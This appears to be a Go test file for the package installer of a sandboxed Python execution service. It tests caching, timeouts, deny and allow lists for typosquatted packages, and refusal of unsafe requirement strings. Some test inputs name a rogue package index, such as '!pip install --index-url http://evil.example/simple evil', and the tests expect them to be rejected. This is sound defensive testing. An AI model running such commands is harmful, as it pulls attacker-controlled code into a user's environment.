package deps_test

import (
	"context"
	"crypto/sha256"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/interp-dev/interp/internal/deps"
	"github.com/interp-dev/interp/internal/deps/pypitest"
	"github.com/interp-dev/interp/internal/event"
	"github.com/interp-dev/interp/internal/python"
	"github.com/interp-dev/interp/internal/sandbox"
	"github.com/interp-dev/interp/internal/sandbox/sandboxtest"
	"github.com/interp-dev/interp/internal/session"
)

func TestMain(m *testing.M) {
	if sandbox.IsInit() {
		sandbox.RunInit()
	}
	if os.Getenv(crashEnv) != "" {
		crashWhileStoring()
	}
	os.Exit(m.Run())
}

// need skips where a test's real components are missing, except on CI.
func need(t testing.TB, ok bool, why string) {
	t.Helper()
	if !ok {
		if os.Getenv("CI") == "true" {
			t.Fatalf("missing on CI: %s", why)
		}
		t.Skip(why)
	}
}

func runtime(t testing.TB) *python.Runtime {
	t.Helper()
	rt, err := python.Find("")
	if err != nil {
		t.Fatal(err)
	}
	need(t, rt.UV != "", "uv is not installed: run scripts/setup")
	return rt
}

func installer(t testing.TB, index string) *deps.Installer {
	t.Helper()
	rt := runtime(t)
	m, err := deps.LoadMap()
	if err != nil {
		t.Fatal(err)
	}
	cache := filepath.Join(siteDir(t), "cache")
	return &deps.Installer{UV: rt.UV, Python: rt.Executable, BaseLock: rt.BaseLock(), CacheDir: cache, IndexURL: index, Map: m, Timeout: time.Minute, Store: &deps.Store{Dir: cache + "-store"}}
}

// siteDir is a package directory uv, running unprivileged, can write.
func siteDir(t testing.TB) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "site")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	// t.TempDir is private to root; uv runs as nobody when we are root.
	for d := dir; d != os.TempDir() && d != "/"; d = filepath.Dir(d) {
		_ = os.Chmod(d, 0o755)
	}
	return dir
}

func kernel(t testing.TB) *session.Kernel {
	t.Helper()
	k, err := session.Start(context.Background(), session.Config{Backend: sandboxtest.Backend(t), Runtime: runtime(t)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { k.Close() })
	return k
}

func run(t testing.TB, k *session.Kernel, code string) (string, session.Event) {
	t.Helper()
	var out strings.Builder
	var failure session.Event
	_, err := k.Execute(context.Background(), code, session.ExecOptions{}, func(ev session.Event) {
		out.WriteString(ev.Text)
		if ev.Type == event.Error {
			failure = ev
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return out.String(), failure
}

var tinyPkgs = []pypitest.Package{
	{Name: "tinypkg", Version: "1.0", Modules: map[string]string{"tinypkg/__init__.py": "from tinydep import BASE\nVALUE = BASE + 41\n"}, Requires: []string{"tinydep>=1.0"}},
	{Name: "tinydep", Version: "1.2", Modules: map[string]string{"tinydep.py": "BASE = 1\n"}},
	{Name: "Other_Name", Version: "2.0", Modules: map[string]string{"othermod/__init__.py": "X = 'other'\n"}},
}

func TestInstallIntoSessionFromLocalIndex(t *testing.T) {
	t.Parallel()
	idx := pypitest.NewIndex(t, tinyPkgs...)
	in := installer(t, idx.URL())
	k := kernel(t)
	if out, _ := run(t, k, "try:\n    import tinypkg\nexcept ImportError:\n    print('missing')"); out != "missing\n" {
		t.Fatalf("tinypkg importable before the install: %q", out)
	}
	var events []session.Event
	err := in.Install(context.Background(), k.SiteDir(), []deps.Requirement{{Name: "tinypkg"}}, func(ev session.Event) { events = append(events, ev) })
	if err != nil {
		t.Fatal(err)
	}
	var phases []string
	for _, ev := range events {
		if ev.Phase != event.PhaseDownloading {
			phases = append(phases, strings.TrimSpace(ev.Phase+" "+ev.Package+" "+ev.Version))
		}
	}
	if got := strings.Join(phases, "|"); got != "resolving tinypkg|installed tinydep 1.2|installed tinypkg 1.0" {
		t.Errorf("events %s", got)
	}
	// The same kernel, without a restart, sees the new package.
	if out, failure := run(t, k, "import tinypkg\nprint(tinypkg.VALUE)"); out != "42\n" {
		t.Errorf("after install: %q %+v", out, failure)
	}
}

func TestSecondInstallComesFromTheCache(t *testing.T) {
	t.Parallel()
	idx := pypitest.NewIndex(t, tinyPkgs...)
	in := installer(t, idx.URL())
	for i := range 2 {
		if err := in.Install(context.Background(), siteDir(t), []deps.Requirement{{Name: "tinypkg"}}, nil); err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			idx.SetDelay(0)
		}
	}
	n := 0
	for _, r := range idx.Requests() {
		if strings.HasSuffix(r, ".whl") && !strings.HasSuffix(r, ".metadata") {
			n++
		}
	}
	if n != 2 { // tinypkg and tinydep, once each
		t.Errorf("wheels fetched %d times, want 2: %v", n, idx.Requests())
	}
}

func TestConcurrentInstallsOfTheSamePackage(t *testing.T) {
	t.Parallel()
	idx := pypitest.NewIndex(t, tinyPkgs...)
	in := installer(t, idx.URL())
	var wg sync.WaitGroup
	errs := make([]error, 4)
	sites := make([]string, 4)
	for i := range sites {
		sites[i] = siteDir(t)
	}
	for i := range sites {
		wg.Add(1)
		go func() {
			defer wg.Done()
			errs[i] = in.Install(context.Background(), sites[i], []deps.Requirement{{Name: "tinypkg"}}, nil)
		}()
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Errorf("install %d: %v", i, err)
		}
		if _, err := os.Stat(filepath.Join(sites[i], "tinypkg", "__init__.py")); err != nil {
			t.Errorf("install %d: %v", i, err)
		}
	}
}

func TestRefusals(t *testing.T) {
	t.Parallel()
	marker := filepath.Join(t.TempDir(), "sdist-ran")
	idx := pypitest.NewIndex(t, append(tinyPkgs, pypitest.Package{Name: "buildme", Version: "1.0", SdistOnly: true, SdistMarker: marker})...)
	in := installer(t, idx.URL())
	tests := []struct {
		name  string
		allow []string
		req   string
		want  string
	}{
		{"deny list", nil, "colourama", "deny list"},
		{"deny list typo of requests", nil, "request", "deny list"},
		{"allow list", []string{"tinydep"}, "tinypkg", "not on the allow list"},
		{"sdist only", nil, "buildme", "buildme"},
		{"unknown package", nil, "no-such-package-here", "no-such-package-here"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in.Allow = tt.allow
			defer func() { in.Allow = nil }()
			site := siteDir(t)
			var failed []string
			err := in.Install(context.Background(), site, []deps.Requirement{{Name: tt.req}}, func(ev session.Event) {
				if ev.Phase == event.PhaseFailed {
					failed = append(failed, ev.Message)
				}
			})
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got %v, want an error with %q", err, tt.want)
			}
			if len(failed) != 1 {
				t.Errorf("failed events %v", failed)
			}
			if entries, _ := os.ReadDir(site); len(entries) != 0 {
				t.Errorf("a refused install left %d entries", len(entries))
			}
		})
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("an sdist's setup code ran")
	}
}

func TestInstallTimeBudget(t *testing.T) {
	t.Parallel()
	idx := pypitest.NewIndex(t, tinyPkgs...)
	idx.SetDelay(3 * time.Second)
	in := installer(t, idx.URL())
	in.Timeout = 300 * time.Millisecond
	err := in.Install(context.Background(), siteDir(t), []deps.Requirement{{Name: "tinypkg"}}, nil)
	if err == nil || !strings.Contains(err.Error(), "install budget") {
		t.Errorf("got %v, want the time budget", err)
	}
}

func TestParseRequirement(t *testing.T) {
	t.Parallel()
	good := map[string]string{
		"pandas":               "pandas",
		"pandas==2.1.0":        "pandas==2.1.0",
		"scikit-learn >= 1.3":  "scikit-learn>=1.3",
		"requests[socks]<3,>2": "requests[socks]<3,>2",
		"zope.interface~=6.0":  "zope.interface~=6.0",
	}
	for in, want := range good {
		r, err := deps.ParseRequirement(in)
		if err != nil || r.String() != want {
			t.Errorf("%q: %v %q", in, err, r.String())
		}
	}
	for _, bad := range []string{"", "-e .", "--index-url=http://evil", "git+https://x/y.git", "./local", "/abs/path.whl",
		"pkg; os_name=='nt'", "pkg @ https://x", "pkg==1.0 --extra-index-url x", "a b"} {
		if _, err := deps.ParseRequirement(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

// baseDigest summarises the base environment's files.
func baseDigest(t *testing.T, env string) string {
	h := sha256.New()
	_ = filepath.WalkDir(env, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if fi, err := d.Info(); err == nil {
			fmt.Fprintf(h, "%s %d %d\n", p, fi.Size(), fi.ModTime().UnixNano())
		}
		return nil
	})
	return fmt.Sprintf("%x", h.Sum(nil))
}

func TestAutoInstallLeavesBaseAndNetworkClosed(t *testing.T) {
	t.Parallel()
	idx := pypitest.NewIndex(t, tinyPkgs...)
	in := installer(t, idx.URL())
	rt := runtime(t)
	need(t, rt.Env != "", "no base environment: run scripts/setup")
	before := baseDigest(t, rt.Env)
	k := kernel(t)
	auto := &deps.Auto{Installer: in, Map: in.Map}

	code := "import tinypkg\nprint(tinypkg.VALUE)\n"
	code, err := auto.Prepare(context.Background(), k, code, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if out, failure := run(t, k, code); out != "42\n" {
		t.Fatalf("auto install: %q %+v", out, failure)
	}
	// %pip lines go through the installer and are not run by a shell.
	code, err = auto.Prepare(context.Background(), k, "%pip install -q Other_Name\nimport othermod\nprint(othermod.X)", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if out, failure := run(t, k, code); out != "other\n" {
		t.Errorf("%%pip: %q %+v", out, failure)
	}
	if after := baseDigest(t, rt.Env); after != before {
		t.Error("the base environment changed")
	}
	// The sandbox still has no network, the index included.
	host := strings.TrimPrefix(idx.ServerURL(), "http://")
	out, _ := run(t, k, fmt.Sprintf("import socket\ns = socket.socket()\ns.settimeout(2)\ntry:\n    s.connect(('%s', %s))\n    print('connected')\nexcept OSError:\n    print('no network')",
		strings.Split(host, ":")[0], strings.Split(host, ":")[1]))
	if out != "no network\n" {
		t.Errorf("sandbox after install: %q", out)
	}
}

func TestReactiveInstall(t *testing.T) {
	t.Parallel()
	idx := pypitest.NewIndex(t, tinyPkgs...)
	in := installer(t, idx.URL())
	k := kernel(t)
	auto := &deps.Auto{Installer: in, Map: in.Map}
	// Detection cannot see a dynamic import; the error can.
	_, failure := run(t, k, "import importlib\nname = 'tiny' + 'dep'\nm = importlib.import_module(name)")
	if failure.EName != "ModuleNotFoundError" {
		t.Fatalf("expected ModuleNotFoundError, got %+v", failure)
	}
	var notes strings.Builder
	if !auto.AfterError(context.Background(), k, failure, func(ev session.Event) { notes.WriteString(ev.Text + ev.Message) }) {
		t.Fatalf("nothing installed after ModuleNotFoundError: %s", notes.String())
	}
	if !strings.Contains(notes.String(), "run the cell again") {
		t.Errorf("no advice to re-run: %q", notes.String())
	}
	if out, _ := run(t, k, "import tinydep\nprint(tinydep.BASE)"); out != "1\n" {
		t.Errorf("after reactive install: %q", out)
	}
}

func TestPlanDetection(t *testing.T) {
	t.Parallel()
	k := kernel(t)
	m, err := deps.LoadMap()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := k.Workspace().Write("mylocal.py", strings.NewReader("X = 1"), 100); err != nil {
		t.Fatal(err)
	}
	auto := &deps.Auto{Map: m}
	code := `
import os, json
import numpy as np
from sklearn.linear_model import LinearRegression
from cv2 import imread
import mylocal

def later():
    import yaml
    import bs4_not_real_pkg_zz

try:
    import ujson as fastjson
except ImportError:
    import json as fastjson

try:
    import notinstalled_primary_zz
except ModuleNotFoundError:
    import notinstalled_fallback_zz

%pip install tabulate==0.9.0 -q
!pip install --index-url http://evil.example/simple evil
`
	p, err := auto.Plan(context.Background(), k, code, []string{"extra-hint>=1"})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, imp := range p.Imports {
		d := "-"
		if imp.Distribution != nil {
			d = *imp.Distribution
		}
		got[imp.Module] = imp.Status + " " + d
	}
	want := map[string]string{
		"os":                                    "stdlib -",
		"json":                                  "stdlib -",
		"numpy":                                 "installed -",
		"sklearn.linear_model.LinearRegression": "installed -",
		"cv2.imread":                            "missing opencv-python-headless",
		"mylocal":                               "local -",
		"yaml":                                  "installed -",
		"bs4_not_real_pkg_zz":                   "missing bs4_not_real_pkg_zz",
		"ujson":                                 "missing -",
		"notinstalled_primary_zz":               "missing notinstalled_primary_zz",
		"notinstalled_fallback_zz":              "missing -",
	}
	for mod, w := range want {
		if got[mod] != w {
			t.Errorf("%s: %q, want %q", mod, got[mod], w)
		}
	}
	var install []string
	for _, r := range append(p.Requested, p.Detected...) {
		install = append(install, r.String())
	}
	if g := strings.Join(install, " "); g != "extra-hint>=1 tabulate==0.9.0 opencv-python-headless bs4_not_real_pkg_zz notinstalled_primary_zz" {
		t.Errorf("install %s", g)
	}
	if len(p.Problems) != 1 || !strings.Contains(p.Problems[0], "--index-url") {
		t.Errorf("problems %v", p.Problems)
	}
	if strings.Contains(p.Code, "pip install") || strings.Count(p.Code, "\n") != strings.Count(code, "\n") {
		t.Errorf("pip lines not neutralised, or lines moved:\n%s", p.Code)
	}
	if _, err := auto.Plan(context.Background(), k, "def broken(:\n", nil); err == nil {
		t.Error("a syntax error was not reported")
	}
}

// TestRealPyPI installs small packages from the real index, which CI can
// reach: an import whose distribution has another name, and a package
// whose dependency the base environment already has.
func TestRealPyPI(t *testing.T) {
	t.Parallel()
	in := installer(t, "")
	k := kernel(t)
	auto := &deps.Auto{Installer: in, Map: in.Map}
	var failed []string
	code, err := auto.Prepare(context.Background(), k, "import dotenv\nimport requests_toolbelt\nprint(dotenv.__name__, requests_toolbelt.__name__)", nil,
		func(ev session.Event) {
			if ev.Phase == event.PhaseFailed {
				failed = append(failed, ev.Message)
			}
		})
	if err != nil {
		t.Fatal(err)
	}
	if len(failed) > 0 {
		t.Fatalf("install failed (is PyPI reachable?): %v", failed)
	}
	if out, failure := run(t, k, code); out != "dotenv requests_toolbelt\n" {
		t.Errorf("after install: %q %+v", out, failure)
	}
	entries, err := os.ReadDir(k.SiteDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.Name() == "requests" || strings.HasPrefix(e.Name(), "requests-") {
			t.Errorf("%s was installed again though the base environment has it", e.Name())
		}
	}
}
